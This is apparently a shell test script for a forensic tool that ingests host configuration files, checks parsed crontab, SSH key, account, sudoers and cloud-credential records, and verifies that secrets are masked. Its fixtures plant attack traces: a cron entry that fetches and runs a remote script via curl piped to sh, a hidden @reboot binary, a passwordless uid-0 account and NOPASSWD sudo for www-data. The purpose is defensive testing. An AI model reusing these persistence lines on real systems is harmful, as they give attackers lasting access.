#!/usr/bin/env bash
# Host configuration traces: crontab, authorized_keys (fingerprints against ssh-keygen -lf),
# passwd/shadow/group/sudoers (against awk -F:), cloud credential files (no secret stored).
source "$(dirname "$0")/../lib.sh"
H=$TMP/host
mkdir -p "$H/etc/cron.d" "$H/var/spool/cron/crontabs" "$H/home/alice/.ssh" "$H/etc/sudoers.d" \
  "$H/home/alice/.aws" "$H/root/.config/gcloud/configurations" "$H/home/alice/.azure"
C=$TMP/case

# ---- crontab ---------------------------------------------------------------------------
cat > "$H/etc/crontab" <<'CRON'
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
# m h dom mon dow user	command
17 *	* * *	root    cd / && run-parts --report /etc/cron.hourly
@reboot root /var/tmp/.x/kworker
*/5 * * * *
CRON
printf '*/10 * * * * www-data curl -fsSL http://203.0.113.9/m.sh | sh\n' > "$H/etc/cron.d/php-sess"
printf 'MAILTO=""\n@daily /home/bob/backup.sh\n0 3 * jan,jul mon-fri /usr/bin/true\n' > "$H/var/spool/cron/crontabs/bob"
printf '1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n@monthly\t15\tcron.monthly\trun-parts /etc/cron.monthly\n' > "$H/etc/anacrontab"
touch -d '2026-11-20 10:00:00' "$H/etc/crontab"
expect_rc ingest_cron_with_error_record 3 "$KS" ingest -q "$C" "$H/etc/crontab" "$H/etc/cron.d/php-sess" "$H/var/spool/cron/crontabs/bob" "$H/etc/anacrontab"
expect_eq cron_rows "$(q "$C" "SELECT group_concat(kind || '/' || coalesce(user,'') || '/' || coalesce(schedule,''), ' ') FROM (SELECT * FROM crontab ORDER BY id)")" \
  "env// env// system/root/17 *	* * * system/root/@reboot system/www-data/*/10 * * * * env// user/bob/@daily user/bob/0 3 * jan,jul mon-fri anacron/root/1	5 anacron/root/@monthly	15"
expect_eq cron_system_command "$(q "$C" "SELECT command FROM crontab WHERE schedule='@reboot'")" "/var/tmp/.x/kworker"
expect_eq cron_entry_without_command_is_error "$(q "$C" "SELECT line FROM events WHERE error IS NOT NULL AND file LIKE '%/etc/crontab'")" "6"
expect_eq cron_time_is_file_mtime "$(q "$C" "SELECT DISTINCT time || ' ' || time_desc FROM events WHERE file LIKE '%/etc/crontab' AND error IS NULL")" \
  "2026-11-20T10:00:00.000000000Z file modified"
expect_eq cron_event_target "$(q "$C" "SELECT actor FROM events WHERE action='cron_entry' AND target LIKE 'curl%'")" "www-data"

# ---- authorized_keys --------------------------------------------------------------------
if command -v ssh-keygen >/dev/null; then
  K=$TMP/keys; mkdir -p "$K"
  ssh-keygen -q -t ed25519 -N '' -C 'alice@laptop' -f "$K/k1"
  ssh-keygen -q -t rsa -b 2048 -N '' -C 'deploy key' -f "$K/k2"
  ssh-keygen -q -t ecdsa -b 384 -N '' -C '' -f "$K/k3"
  {
    cat "$K/k1.pub"
    echo '# a comment'
    echo "command=\"/usr/bin/rsync --server -e.Lsfx \\\"a b\\\"\",from=\"10.0.0.0/8,192.0.2.1\",no-pty,no-port-forwarding $(cat "$K/k2.pub")"
    echo "restrict $(cat "$K/k3.pub")"
    echo 'ssh-rsa AAAA!!notbase64 broken'
  } > "$H/home/alice/.ssh/authorized_keys"
  expect_rc ingest_authorized_keys_with_error_record 3 "$KS" ingest -q "$C" "$H/home/alice/.ssh/authorized_keys"
  want=$(for k in k1 k2 k3; do ssh-keygen -lf "$K/$k.pub" | cut -d' ' -f2; done | paste -sd' ')
  expect_eq fingerprints_match_ssh_keygen "$(q "$C" "SELECT group_concat(fingerprint, ' ') FROM (SELECT fingerprint FROM ssh_authorized_key ORDER BY id)")" "$want"
  expect_eq forced_command "$(q "$C" "SELECT forced_command FROM ssh_authorized_key WHERE comment='deploy key'")" '/usr/bin/rsync --server -e.Lsfx \"a b\"'
  expect_eq from_hosts "$(q "$C" "SELECT from_hosts FROM ssh_authorized_key WHERE comment='deploy key'")" "10.0.0.0/8,192.0.2.1"
  expect_eq key_user_from_home "$(q "$C" "SELECT DISTINCT user FROM ssh_authorized_key")" "alice"
  expect_eq bad_key_is_error "$(q "$C" "SELECT line FROM events WHERE error IS NOT NULL AND file LIKE '%authorized_keys'")" "5"
  expect_eq key_types "$(q "$C" "SELECT group_concat(key_type, ' ') FROM ssh_authorized_key")" "ssh-ed25519 ssh-rsa ecdsa-sha2-nistp384"
else
  skip authorized_keys "ssh-keygen (openssh-client) not installed"
fi

# ---- accounts ---------------------------------------------------------------------------
cat > "$H/etc/passwd" <<'PW'
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/bin/bash
toor:x:0:0::/root:/bin/sh
alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash
broken line
PW
H6='$6$abcdefgh$7QCmJtDW1Lpz0vN0Y0nNQ8ktXKRsFlO6gR3cLNzGRnDIZ2vAg4oD1kMUv0Yp8Qxjbrh6wOx1PVzkIPbl1kN/y.'
if command -v openssl >/dev/null; then H6=$(openssl passwd -6 -salt abcdefgh 'Winter2026!'); fi
HY='$y$j9T$F5Jx5fExrKuPp53xLKQ..1$X3DX6M94c7o.9agCG9G317fhZg9SqC.5i5rd.RhAtQ7'
cat > "$H/etc/shadow" <<SH
root:$HY:20000:0:99999:7:::
daemon:*:19000:0:99999:7:::
alice:$H6:20412:0:99999:7::20500:
toor::20413:0:99999:7:::
locked:!$H6:20000::::::
bad:$H6:notanumber:0:99999:7:::
SH
printf 'root:x:0:\nsudo:x:27:alice,toor\ndocker:x:998:www-data\nalice:x:1000:\n' > "$H/etc/group"
cat > "$H/etc/sudoers" <<'SU'
Defaults	env_reset
Defaults	secure_path="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin"
# User privilege specification
root	ALL=(ALL:ALL) ALL
%sudo	ALL=(ALL:ALL) ALL
Cmnd_Alias BACKUP = /usr/bin/rsync, \
                    /bin/tar
#includedir /etc/sudoers.d
SU
printf 'www-data ALL=(root) NOPASSWD: ALL\n' > "$H/etc/sudoers.d/90-web"
expect_rc ingest_accounts_with_error_records 3 "$KS" ingest -q "$C" "$H/etc/passwd" "$H/etc/shadow" "$H/etc/group" "$H/etc/sudoers" "$H/etc/sudoers.d/90-web"
expect_eq passwd_vs_awk "$(q "$C" "SELECT group_concat(name || ':' || uid || ':' || gid || ':' || home || ':' || shell, ' ') FROM passwd")" \
  "$(grep -v '^broken' "$H/etc/passwd" | awk -F: '{print $1":"$3":"$4":"$6":"$7}' | paste -sd' ')"
expect_eq passwd_flags "$(q "$C" "SELECT group_concat(name || '=' || flag, ';') FROM passwd WHERE flag IS NOT NULL")" \
  "www-data=service account with a login shell;toor=uid 0 not root"
expect_eq passwd_bad_line_is_error "$(q "$C" "SELECT line FROM events WHERE error IS NOT NULL AND source='passwd'")" "6"
expect_eq shadow_hash_kinds "$(q "$C" "SELECT group_concat(name || '=' || hash_type || '/' || locked || '/' || no_password, ' ') FROM shadow")" \
  "root=yescrypt/0/0 daemon=disabled/0/0 alice=sha512/0/0 toor=empty/0/1 locked=sha512/1/0"
expect_eq shadow_last_change_vs_date "$(q "$C" "SELECT substr(last_change,1,10) FROM shadow WHERE name='alice'")" "$(date -u -d @$((20412 * 86400)) +%F)"
expect_eq shadow_expire "$(q "$C" "SELECT substr(expire,1,10) FROM shadow WHERE name='alice'")" "$(date -u -d @$((20500 * 86400)) +%F)"
expect_eq shadow_password_changed_event "$(q "$C" "SELECT count(*) FROM events WHERE action='password_changed' AND time_desc='password changed'")" "5"
expect_eq shadow_bad_line_is_error "$(q "$C" "SELECT line FROM events WHERE error IS NOT NULL AND source='shadow'")" "6"
for h in "$H6" "$HY" "${H6#\$6\$abcdefgh\$}"; do
  expect_eq "shadow_hash_not_in_db_${#h}" "$(cat "$C"/*.db | grep -c -F -- "$h")" "0"
done
"$KS" query "$C" "SELECT * FROM events" --format jsonl > "$TMP/all.jsonl"
expect_eq shadow_hash_not_in_query_output "$(grep -c -F -- "${H6#\$6\$abcdefgh\$}" "$TMP/all.jsonl")" "0"
expect_eq group_privileged "$(q "$C" "SELECT group_concat(name || '=' || members, ' ') FROM unix_group WHERE privileged=1 AND members != ''")" "sudo=alice,toor docker=www-data"
expect_eq sudoers_kinds "$(q "$C" "SELECT group_concat(kind, ' ') FROM sudoers")" "defaults defaults rule rule alias include rule"
expect_eq sudoers_continuation "$(q "$C" "SELECT commands FROM sudoers WHERE kind='alias'")" "/usr/bin/rsync,  /bin/tar"
expect_eq sudoers_nopasswd "$(q "$C" "SELECT principal || ' ' || runas || ' ' || all_commands FROM sudoers WHERE nopasswd=1")" "www-data root 1"

# ---- cloud credentials ------------------------------------------------------------------
SECRET='wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'
TOKEN='IQoJb3JpZ2luX2VjEXAMPLETOKENaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'
cat > "$H/home/alice/.aws/credentials" <<AWS
[default]
aws_access_key_id = AKIAIOSFODNN7EXAMPLE
aws_secret_access_key = $SECRET

[ops]
aws_access_key_id=ASIAIOSFODNN7EXAMPLE
aws_secret_access_key=$SECRET
aws_session_token=$TOKEN
oops this line has no equals $SECRET
AWS
printf '[default]\nregion = us-east-1\n[profile admin]\nrole_arn = arn:aws:iam::123456789012:role/Admin\nsource_profile = default\nregion = eu-west-1\n' > "$H/home/alice/.aws/config"
GKEY='-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQCEXAMPLEPRIVATEKEY\n-----END PRIVATE KEY-----\n'
printf '{"type":"service_account","project_id":"p-123","private_key_id":"0123456789abcdef0123456789abcdef01234567","private_key":"%s","client_email":"sa@p-123.iam.gserviceaccount.com","client_id":"111111111111111111111"}\n' "$GKEY" \
  > "$H/root/.config/gcloud/application_default_credentials.json"
printf '[core]\naccount = admin@example.com\nproject = p-123\n[compute]\nregion = asia-northeast1\n' > "$H/root/.config/gcloud/configurations/config_default"
printf '\xef\xbb\xbf{"installationId":"x","subscriptions":[{"id":"00000000-1111-2222-3333-444444444444","name":"Prod","state":"Enabled","user":{"name":"alice@example.com","type":"user"},"isDefault":true,"tenantId":"aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee","environmentName":"AzureCloud"}]}' > "$H/home/alice/.azure/azureProfile.json"
AT=eyJ0eXAiOiJKV1QiEXAMPLEACCESSTOKEN
cat > "$H/home/alice/.azure/msal_token_cache.json" <<MSAL
{"AccessToken":{"k1":{"credential_type":"AccessToken","secret":"$AT","home_account_id":"u.t","environment":"login.microsoftonline.com","client_id":"04b07795-8ddb-461a-bbee-02f9e1bf7b46","target":"https://management.core.windows.net//.default","realm":"aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee","cached_at":"1795180000","expires_on":"1795183600"}},
 "RefreshToken":{"k2":{"credential_type":"RefreshToken","secret":"0.AAAAEXAMPLEREFRESHTOKEN","home_account_id":"u.t","environment":"login.microsoftonline.com","client_id":"04b07795-8ddb-461a-bbee-02f9e1bf7b46"}},
 "Account":{"k3":{"home_account_id":"u.t","environment":"login.microsoftonline.com","realm":"aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee","local_account_id":"u","username":"alice@example.com","authority_type":"MSSTS"}}}
MSAL
expect_rc ingest_cloud_with_error_record 3 "$KS" ingest -q "$C" "$H/home/alice/.aws/credentials" "$H/home/alice/.aws/config" \
  "$H/root/.config/gcloud/application_default_credentials.json" "$H/root/.config/gcloud/configurations/config_default" \
  "$H/home/alice/.azure/azureProfile.json" "$H/home/alice/.azure/msal_token_cache.json"
expect_eq aws_profiles "$(q "$C" "SELECT group_concat(file_kind || ':' || profile || ':' || coalesce(key_id,'') || ':' || coalesce(secret,'') || ':' || coalesce(session_token,''), ' ') FROM cloud_credential WHERE provider='aws'")" \
  "aws_credentials:default:AKIAIOSFODNN7EXAMPLE:wJal...(40 chars): aws_credentials:ops:ASIAIOSFODNN7EXAMPLE:wJal...(40 chars):IQoJ...(${#TOKEN} chars) aws_config:default::: aws_config:admin:::"
expect_eq aws_role "$(q "$C" "SELECT role_arn || ' ' || source_profile || ' ' || region FROM cloud_credential WHERE profile='admin'")" \
  "arn:aws:iam::123456789012:role/Admin default eu-west-1"
expect_eq aws_event_target_key_id "$(q "$C" "SELECT group_concat(target, ' ') FROM events WHERE action='cloud_credential_file' AND actor='alice' AND target LIKE 'A%'")" \
  "AKIAIOSFODNN7EXAMPLE ASIAIOSFODNN7EXAMPLE"
expect_eq gcp_service_account "$(q "$C" "SELECT type || ' ' || account || ' ' || tenant || ' ' || key_id || ' ' || secret FROM cloud_credential WHERE file_kind='gcloud_adc'")" \
  "service_account sa@p-123.iam.gserviceaccount.com p-123 0123456789abcdef0123456789abcdef01234567 ----...($(( ${#GKEY} - 3 )) chars)"
expect_eq gcp_config "$(q "$C" "SELECT profile || ' ' || account || ' ' || tenant || ' ' || region FROM cloud_credential WHERE file_kind='gcloud_config'")" \
  "default admin@example.com p-123 asia-northeast1"
expect_eq azure_profile "$(q "$C" "SELECT account || ' ' || tenant || ' ' || key_id FROM cloud_credential WHERE file_kind='azure_profile'")" \
  "alice@example.com aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee 00000000-1111-2222-3333-444444444444"
expect_eq msal_entries "$(q "$C" "SELECT group_concat(profile || ':' || coalesce(secret, session_token, '-'), ' ') FROM cloud_credential WHERE file_kind='msal_cache'")" \
  "AccessToken:eyJ0...(${#AT} chars) RefreshToken:0.AA...(25 chars) Account:-"
expect_eq msal_cached_at "$(q "$C" "SELECT time FROM events WHERE time_desc='token cached'")" "$(date -u -d @1795180000 +%FT%T).000000000Z"
expect_eq cred_error_line_kept_masked "$(q "$C" "SELECT line || ' ' || raw FROM events WHERE error IS NOT NULL AND file LIKE '%.aws/credentials'")" "9 oops...($(( 29 + ${#SECRET} )) chars)"
"$KS" query "$C" "SELECT * FROM events" --format jsonl > "$TMP/all.jsonl"
"$KS" query "$C" "SELECT * FROM cloud_credential" --format jsonl >> "$TMP/all.jsonl"
for s in "$SECRET" "$TOKEN" "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQCEXAMPLEPRIVATEKEY" \
         "eyJ0eXAiOiJKV1QiEXAMPLEACCESSTOKEN" "0.AAAAEXAMPLEREFRESHTOKEN"; do
  expect_eq "secret_not_in_db_${s:0:6}" "$(cat "$C"/*.db | grep -c -F -- "$s")" "0"
  expect_eq "secret_not_in_query_${s:0:6}" "$(grep -c -F -- "$s" "$TMP/all.jsonl")" "0"
done
